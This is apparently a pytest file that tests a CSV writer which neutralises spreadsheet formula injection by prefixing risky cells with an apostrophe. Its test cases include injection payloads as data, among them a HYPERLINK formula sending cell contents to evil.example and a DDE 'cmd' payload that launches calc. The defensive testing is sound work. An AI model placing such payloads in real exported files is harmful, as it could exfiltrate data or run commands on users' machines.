"""The CSV writer of the tables rexmle makes for people: a text cell a spreadsheet would run as a formula is quoted
(OWASP's rule), and nothing else changes: numbers, empty cells and NaN stay as they are."""

from __future__ import annotations

import csv
import io
import math

import pandas as pd
import pytest

from rexmle_grade.csvsafe import SafeDictWriter, SafeWriter, frame_to_csv, safe_cell


@pytest.mark.parametrize(("cell", "written"), [
    ('=HYPERLINK("http://evil.example/?q="&A1,"click")', '\'=HYPERLINK("http://evil.example/?q="&A1,"click")'),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("-cmd", "'-cmd"),
    ("-", "'-"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("a plan = fit a line", "a plan = fit a line"),  # a formula character inside the text is harmless
    ("", ""),
    ("-1.5", "-1.5"),  # a plain number written as text: no spreadsheet runs it
    ("+2e-3", "+2e-3"),
    (-1.5, -1.5),
    (0, 0),
    (None, None),
])
def test_a_cell_that_starts_a_formula_is_quoted_and_nothing_else_changes(cell: object, written: object) -> None:
    assert safe_cell(cell) == written


def test_nan_stays_nan() -> None:
    assert math.isnan(safe_cell(float("nan")))


def test_a_frame_keeps_its_numbers_and_quotes_its_text_and_headers() -> None:
    frame = pd.DataFrame({
        "plan": ["=HYPERLINK(\"x\")", "fit a line", None],
        "metric": [-1.5, float("nan"), 2.0],
        "mixed": ["-cmd", -3, ""],
        "=evil": [True, False, True],
    })
    text = frame_to_csv(frame)
    assert text == ("plan,metric,mixed,'=evil\n"
                    "\"'=HYPERLINK(\"\"x\"\")\",-1.5,'-cmd,True\n"
                    "fit a line,,-3,False\n"
                    ",2.0,,True\n")
    assert frame["plan"][0] == "=HYPERLINK(\"x\")"  # the caller's frame is not changed
    back = pd.read_csv(io.StringIO(text))
    assert back["metric"].dtype.kind == "f" and back["metric"][0] == -1.5


def test_the_frame_writer_writes_a_file(tmp_path) -> None:
    path = tmp_path / "t.csv"
    assert frame_to_csv(pd.DataFrame({"a": ["@x"]}), path) is None
    assert path.read_text() == "a\n'@x\n"


def test_the_row_writers_quote_cells_and_headers() -> None:
    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, fieldnames=["name", "+value"])
    writer.writeheader()
    writer.writerows([{"name": "=1+1", "+value": -2.5}, {"name": "ok", "+value": "-x"}])
    plain = io.StringIO()
    SafeWriter(plain).writerows([["@a", 1.5], ["b", "-1"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["name", "'+value"], ["'=1+1", "-2.5"],
                                                                 ["ok", "'-x"]]
    assert list(csv.reader(io.StringIO(plain.getvalue()))) == [["'@a", "1.5"], ["b", "-1"]]
